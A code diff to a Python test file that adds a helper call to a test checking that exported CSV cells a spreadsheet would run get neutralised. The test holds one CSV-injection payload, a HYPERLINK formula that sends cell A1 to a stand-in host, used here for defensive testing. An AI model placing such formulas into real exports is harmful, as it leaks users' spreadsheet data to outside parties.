@@ -18,6 +18,7 @@ from pathlib import Path
 import pytest
 
 from tests.clitools import run
+from tests.conftest import allow_users_sql
 from tests.test_views import build_reporting_data
 from timeline import db
 from timeline.models import Actor, Event, Participant
@@ -397,7 +398,7 @@ def test_chromium_shows_ranges_as_bars_and_data_as_text(migrated_url: str, tmp_p
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(export_url: str) -> None:
     evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
-    url = export_url
+    url = allow_users_sql(export_url)
     result = run(
         "--db",
         url,
